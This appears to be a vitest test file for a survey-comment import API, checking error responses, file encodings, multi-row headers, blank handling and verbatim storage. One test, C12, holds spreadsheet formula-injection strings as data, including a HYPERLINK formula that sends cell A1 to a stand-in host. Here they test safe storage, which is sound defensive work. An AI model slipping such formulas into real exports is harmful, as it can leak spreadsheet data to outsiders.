import { beforeAll, describe, expect, it } from 'vitest';
import type { ImportReport, Mapping } from '../../shared/api/import';
import { useTestApp, type ErrorBody } from '../helpers/app';
import * as seed from '../helpers/factories';
import { importRoutes } from '../helpers/imports';
import {
  multipart,
  sharedFile,
  textFile,
  type Upload,
} from '../helpers/multipart';
import { tableCounts } from '../helpers/queries';

const C01 = 'RespondentID,Group,worked\r\nP1,Parent/carer,It went well.\r\n';

const wideMapping: Mapping = {
  layout: 'wide',
  headerRows: 1,
  idColumn: 'RespondentID',
  group: { column: 'Group' },
  questions: [{ column: 'worked' }],
};

describe('import routes: errors', () => {
  const t = useTestApp();
  let projectId: number;
  beforeAll(() => {
    projectId = seed.project(t.db);
  });

  const post = (url: string, fields: Record<string, string>, file?: Upload) =>
    t.app.inject({ method: 'POST', url, ...multipart(fields, file) });

  const importUrl = () => `/api/projects/${projectId}/imports`;

  it('answers 404 for an unknown project (preview and import)', async () => {
    for (const url of [
      '/api/projects/999/imports/preview',
      '/api/projects/999/imports',
    ]) {
      const res = await post(url, {}, textFile('a.csv', C01));
      expect(res.statusCode).toBe(404);
      expect(res.json<ErrorBody>()).toMatchObject({
        code: 'not_found',
        message: 'There is no project with id 999.',
      });
    }
  });

  it('answers 400 when the file field is missing', async () => {
    const res = await post(importUrl(), {
      mapping: JSON.stringify(wideMapping),
    });
    expect(res.statusCode).toBe(400);
    expect(res.json<ErrorBody>()).toMatchObject({
      code: 'validation_failed',
      message: 'No file was uploaded: add the file in a field named "file".',
    });
  });

  it('answers 400 when the body is not multipart', async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: importUrl(),
      payload: { mapping: wideMapping },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json<ErrorBody>().message).toBe(
      'Send the file as multipart/form-data, in a field named "file".',
    );
  });

  it('answers 400 when the mapping is missing, not JSON or misshapen', async () => {
    const file = textFile('a.csv', C01);
    const missing = await post(importUrl(), {}, file);
    expect(missing.statusCode).toBe(400);
    expect(missing.json<ErrorBody>().message).toBe(
      'The mapping is missing: send it as a JSON field named "mapping".',
    );
    const notJson = await post(importUrl(), { mapping: '{oops' }, file);
    expect(notJson.statusCode).toBe(400);
    expect(notJson.json<ErrorBody>().message).toBe(
      'The mapping is not valid JSON.',
    );
    const wrong = await post(
      importUrl(),
      { mapping: JSON.stringify({ ...wideMapping, layout: 'diagonal' }) },
      file,
    );
    expect(wrong.statusCode).toBe(400);
    expect(wrong.json<ErrorBody>().code).toBe('validation_failed');
    expect(wrong.json<ErrorBody>().message).toMatch(
      /^The mapping is not valid: layout /,
    );
  });

  it('answers 400 for a headerRows field out of range in a preview', async () => {
    const res = await post(
      `/api/projects/${projectId}/imports/preview`,
      { headerRows: '7' },
      textFile('a.csv', C01),
    );
    expect(res.statusCode).toBe(400);
    expect(res.json<ErrorBody>().message).toBe('headerRows must be 1, 2 or 3.');
  });

  it('answers 404 for an unknown progress token', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/imports/progress/nope',
    });
    expect(res.statusCode).toBe(404);
    expect(res.json<ErrorBody>().message).toBe(
      'There is no import in progress with id nope.',
    );
  });

  async function expectBadFile(
    file: { name: string; bytes: Buffer },
    mapping: Mapping,
    problem: Record<string, unknown>,
  ) {
    const before = tableCounts(t.db);
    const res = await post(
      importUrl(),
      { mapping: JSON.stringify(mapping) },
      file,
    );
    expect(res.statusCode).toBe(400);
    const body = res.json<ErrorBody>();
    expect(body.code).toBe('bad_file');
    expect(body.message).toMatch(
      new RegExp(
        `^${file.name.replace('.', '\\.')} could not be imported: \\d+ problems? found\\. Nothing was saved\\.$`,
      ),
    );
    expect(body.details.problems).toContainEqual(
      expect.objectContaining({ file: file.name, ...problem }),
    );
    expect(tableCounts(t.db)).toEqual(before);
    return body;
  }

  it('refuses a mapping naming a column the file does not have', async () => {
    await expectBadFile(
      textFile('a.csv', C01),
      { ...wideMapping, questions: [{ column: 'not_there' }] },
      {
        column: 'not_there',
        message:
          'The mapping names a column "not_there" (question) that is not in the file. Its columns are: "RespondentID", "Group", "worked".',
      },
    );
  });

  it('refuses an empty id and an id repeated in its group in a wide layout', async () => {
    // P1 in group B is another respondent: only P1 again in A is refused.
    const csv =
      'RespondentID,Group,worked\nP1,A,one\n,A,two\nP1,A,three\nP1,B,four\n';
    const body = await expectBadFile(textFile('ids.csv', csv), wideMapping, {
      row: 3,
      column: 'RespondentID',
      message: 'The respondent id is empty.',
    });
    expect(body.details.problems).toContainEqual({
      file: 'ids.csv',
      row: 4,
      column: 'RespondentID',
      message:
        'Respondent id "P1" in group "A" appears again (first on row 2); each respondent needs one row in a wide layout.',
    });
    expect(body.details.problemCount).toBe(2);
  });

  it('refuses a long-layout row with no question', async () => {
    const csv = 'id,question,answer\n1,worked,Fine\n2,,Lost\n';
    await expectBadFile(
      textFile('long.csv', csv),
      {
        layout: 'long',
        headerRows: 1,
        idColumn: 'id',
        group: null,
        questionColumn: 'question',
        textColumn: 'answer',
      },
      { row: 3, column: 'question', message: 'The row names no question.' },
    );
  });

  it('refuses ragged rows, naming each row', async () => {
    const csv = 'RespondentID,Group,worked\nP1,A,one\nP2,A,two,extra\nP3,B\n';
    const body = await expectBadFile(textFile('ragged.csv', csv), wideMapping, {
      message:
        'Row 3 has 4 cells where the header has 3. Check the quotes and delimiters on this row.',
    });
    expect(body.details.problems).toHaveLength(2);
    // The message names the row, so no `row` field makes a client say it
    // twice ("Row 3: Row 3 has …").
    expect(body.details.problems?.[0]).not.toHaveProperty('row');
    expect(body.details.problems?.[1]).toMatchObject({
      message:
        'Row 4 has 2 cells where the header has 3. Check the quotes and delimiters on this row.',
    });
  });

  it('refuses a file with no data rows', async () => {
    await expectBadFile(
      textFile('empty.csv', 'RespondentID,Group,worked\r\n'),
      wideMapping,
      { message: 'The file has no data rows below its 1 header row.' },
    );
  });

  it('refuses an unreadable XLSX', async () => {
    const bytes = Buffer.concat([
      Buffer.from([0x50, 0x4b, 0x03, 0x04]),
      Buffer.from('not really a zip archive'),
    ]);
    await expectBadFile({ name: 'broken.xlsx', bytes }, wideMapping, {
      message: 'The file looks like an XLSX workbook but cannot be opened.',
    });
  });

  it('refuses a theme column holding something other than 0/1', async () => {
    const csv = 'RespondentID,Group,worked,Time\nP1,A,one,1\nP2,A,two,maybe\n';
    await expectBadFile(
      textFile('codes.csv', csv),
      {
        ...wideMapping,
        codes: { format: 'binary', columns: [{ column: 'Time' }] },
      },
      {
        row: 3,
        column: 'Time',
        message:
          'A theme column should hold 1 (theme applies) or 0/empty, not "maybe".',
      },
    );
  });

  it('refuses the same bytes twice with 409 and writes nothing', async () => {
    const file = sharedFile('cases/C01/bom_utf8.csv');
    const first = await post(
      importUrl(),
      { mapping: JSON.stringify(wideMapping) },
      file,
    );
    expect(first.statusCode).toBe(201);
    const before = tableCounts(t.db);
    const again = await post(
      importUrl(),
      { mapping: JSON.stringify(wideMapping) },
      file,
    );
    expect(again.statusCode).toBe(409);
    expect(again.json<ErrorBody>()).toMatchObject({ code: 'already_imported' });
    expect(again.json<ErrorBody>().message).toMatch(
      /^This file was already imported \(as bom_utf8\.csv on \d{1,2} [A-Z][a-z]+ \d{4}, \d\d:\d\d UTC\)\. It was not imported again\.$/,
    );
    expect(tableCounts(t.db)).toEqual(before);
  });

  it('keeps progress for a token and lists past imports', async () => {
    const res = await post(
      importUrl(),
      {
        mapping: JSON.stringify(wideMapping),
        progressToken: 'tok-1',
      },
      textFile('progress.csv', 'RespondentID,Group,worked\nP9,A,Good\n'),
    );
    expect(res.statusCode).toBe(201);
    const progress = await t.app.inject({
      method: 'GET',
      url: '/api/imports/progress/tok-1',
    });
    expect(progress.statusCode).toBe(200);
    expect(progress.json<ErrorBody>()).toMatchObject({
      phase: 'done',
      totalRows: 1,
    });

    const list = await t.app.inject({ method: 'GET', url: importUrl() });
    expect(list.statusCode).toBe(200);
    expect(list.json<ErrorBody>()).toContainEqual(
      expect.objectContaining({
        fileName: 'progress.csv',
        respondents: 1,
        comments: 1,
      }),
    );
  });
});

describe('import routes: hand-out cases', () => {
  const t = useTestApp();
  const routes = importRoutes(t);

  /** A hand-out file previewed in a new project. */
  async function preview(path: string, fields: Record<string, string> = {}) {
    const projectId = seed.project(t.db);
    return {
      projectId,
      preview: await routes.preview(projectId, sharedFile(path), fields),
    };
  }

  const runImport = (projectId: number, path: string, mapping: Mapping) =>
    routes.importFile(projectId, sharedFile(path), mapping);

  const comments = (projectId: number, key: string) =>
    t.db.$client
      .prepare(
        `SELECT r.external_id AS id, c.text, c.norm_text AS norm,
           c.substantive FROM comments c
         JOIN questions q ON q.id = c.question_id
         JOIN respondents r ON r.id = c.respondent_id
         WHERE c.project_id = ? AND q.key = ? ORDER BY r.id`,
      )
      .all(projectId, key) as Array<{
      id: string;
      text: string;
      norm: string;
      substantive: number;
    }>;

  it('C01: both files give RespondentID exactly, pre-selected, 3 respondents', async () => {
    for (const path of [
      'cases/C01/bom_utf8.csv',
      'cases/C01/excel_unicode_text_utf16le.txt',
    ]) {
      const { projectId, preview: p } = await preview(path);
      expect(p.columns[0]?.name).toBe('RespondentID');
      expect(p.columns[0]?.name).toHaveLength(12);
      expect(p.proposedMapping.idColumn).toBe('RespondentID');
      expect(p.proposedMapping.group).toEqual({ column: 'Group' });
      expect(p.columns.map((c) => c.name)).toEqual([
        'RespondentID',
        'Group',
        'worked',
        'not_worked',
      ]);
      const report = await runImport(projectId, path, p.proposedMapping);
      expect(report.respondents).toBe(3);
      expect(report.groups.map((g) => g.name)).toEqual([
        'Parent/carer',
        'Practitioner',
        'Child or young person',
      ]);
      const byKey = Object.fromEntries(
        report.questions.map((q) => [q.key, q.comments]),
      );
      expect(byKey).toEqual({ worked: 3, not_worked: 2 });
      expect(report.skippedBlank).toBe(1);
      expect(comments(projectId, 'worked').map((c) => c.id)).toEqual([
        'P001',
        'P002',
        'P003',
      ]);
    }
    const utf16 = await preview('cases/C01/excel_unicode_text_utf16le.txt');
    expect(utf16.preview).toMatchObject({
      encoding: 'utf-16le',
      delimiter: '\t',
    });
  });

  it('C03: three comments with the exact texts, line breaks as \\n', async () => {
    const path = 'cases/C03/multiline_crlf.csv';
    const { projectId, preview: p } = await preview(path);
    expect(p.rowCount).toBe(3);
    const report = await runImport(projectId, path, p.proposedMapping);
    expect(report.respondents).toBe(3);
    expect(comments(projectId, 'change').map((c) => c.text)).toEqual([
      'Three things:\n1. Send the draft plan earlier\n2. One named contact\n3. Fewer forms',
      'Training on the "new" system, please, for SENCOs',
      'Ask me, not just my mum.\nThanks',
    ]);
  });

  it('C06: two header rows, ids as text, the Other choice left unmapped', async () => {
    const path = 'cases/C06/surveymonkey_export.csv';
    const { projectId, preview: p } = await preview(path);
    expect(p.headerRows).toBe(2);
    expect(p.rowCount).toBe(3);
    expect(p.columns[5]?.name).toBe(
      'Which best describes you? — Other (please specify)',
    );
    const names = p.columns.map((c) => c.name);
    expect(new Set(names).size).toBe(names.length);
    expect(names.every((n) => n.trim() !== '')).toBe(true);
    expect(p.proposedMapping.closedColumns).toContain(
      'Overall how satisfied are you?',
    );

    const report = await runImport(projectId, path, {
      layout: 'wide',
      headerRows: 2,
      idColumn: 'Respondent ID',
      group: { column: 'Which best describes you?' },
      questions: [
        { column: 'What worked well?', key: 'worked' },
        { column: 'What did not work well?', key: 'not_worked' },
      ],
      closedColumns: ['Overall how satisfied are you?'],
    });
    expect(report.respondents).toBe(3);
    expect(comments(projectId, 'worked').map((c) => c.id)).toEqual([
      '11850001',
      '11850002',
    ]);
    expect(comments(projectId, 'not_worked').map((c) => c.id)).toEqual([
      '11850001',
      '11850003',
    ]);
    expect(report.groups.map((g) => g.name)).toEqual([
      'Parent/carer',
      'Practitioner',
    ]);
    expect(report.unmappedGroupValues).toEqual([
      { value: 'Other (please specify)', respondents: 1 },
    ]);
    expect(report.closedQuestions).toEqual([
      expect.objectContaining({
        key: 'Overall how satisfied are you?',
        answers: 3,
      }),
    ]);
    const foster = t.db.$client
      .prepare(
        "SELECT attributes FROM respondents WHERE project_id = ? AND external_id = '11850002'",
      )
      .pluck()
      .get(projectId) as string;
    expect(JSON.parse(foster)).toMatchObject({
      'Which best describes you? — Other (please specify)': 'Foster carer',
    });
    const groupNames = t.db.$client
      .prepare('SELECT name FROM respondent_groups WHERE project_id = ?')
      .pluck()
      .all(projectId);
    expect(groupNames).not.toContain('Response');
    const kind = t.db.$client
      .prepare('SELECT kind FROM questions WHERE project_id = ? AND key = ?')
      .pluck()
      .get(projectId, 'Overall how satisfied are you?');
    expect(kind).toBe('closed');
  });

  it('C10: blanks skipped, placeholders flagged, text kept as written', async () => {
    const path = 'cases/C10/blanks.csv';
    const projectId = seed.project(t.db);
    const report = await runImport(projectId, path, {
      layout: 'wide',
      headerRows: 1,
      idColumn: 'RespondentID',
      group: { column: 'Group' },
      questions: [{ column: 'worked' }, { column: 'not_worked' }],
    });
    expect(report.respondents).toBe(8);
    const worked = comments(projectId, 'worked');
    expect(worked.map((c) => c.id)).toEqual(['P604', 'P605', 'P606', 'P607']);
    expect(worked.filter((c) => c.substantive).map((c) => c.text)).toEqual([
      'Everything was fine',
    ]);
    const notWorked = comments(projectId, 'not_worked');
    expect(notWorked).toHaveLength(7);
    expect(notWorked.filter((c) => c.substantive).map((c) => c.text)).toEqual([
      'Nothing worked',
      '  Too slow  ',
    ]);
    const slow = notWorked.find((c) => c.id === 'P606');
    expect(slow).toMatchObject({ text: '  Too slow  ', norm: 'Too slow' });
    expect(report.skippedBlank).toBe(5);
    expect(report).toMatchObject({
      comments: 11,
      substantive: 3,
      placeholders: 8,
    });
  });

  it('C12: all seven answers stored verbatim', async () => {
    const path = 'cases/C12/formula_comments.csv';
    const { projectId, preview: p } = await preview(path);
    await runImport(projectId, path, p.proposedMapping);
    expect(comments(projectId, 'change').map((c) => c.text)).toEqual([
      '=HYPERLINK("http://example.invalid/?q="&A1,"More info")',
      '+44 is the code for the helpline number',
      '- fewer meetings\n- shorter forms',
      '@school staff should ask me first',
      '\t=1+2',
      '=1+1',
      'Cost=time was never explained',
    ]);
  });

  it('re-importing a second group’s file reuses the questions', async () => {
    const projectId = seed.project(t.db);
    const mapping = (group: string): Mapping => ({
      layout: 'wide',
      headerRows: 1,
      idColumn: 'id',
      group: { fixed: group },
      questions: [{ column: 'worked' }, { column: 'not_worked' }],
    });
    const first = await routes.importRequest(
      projectId,
      textFile('parents.csv', 'id,worked,not_worked\n1,Good,Slow\n'),
      mapping('Parents'),
    );
    const second = await routes.importRequest(
      projectId,
      textFile('practitioners.csv', 'id,worked,not_worked\n2,Fine,\n'),
      mapping('Practitioners'),
    );
    const a = first.json<ImportReport>();
    const b = second.json<ImportReport>();
    expect(b.questions.map((q) => q.id)).toEqual(a.questions.map((q) => q.id));
    expect(b.groups).toEqual([
      expect.objectContaining({ name: 'Practitioners', respondents: 1 }),
    ]);
    const count = t.db.$client
      .prepare('SELECT count(*) FROM questions WHERE project_id = ?')
      .pluck()
      .get(projectId);
    expect(count).toBe(2);
  });
});
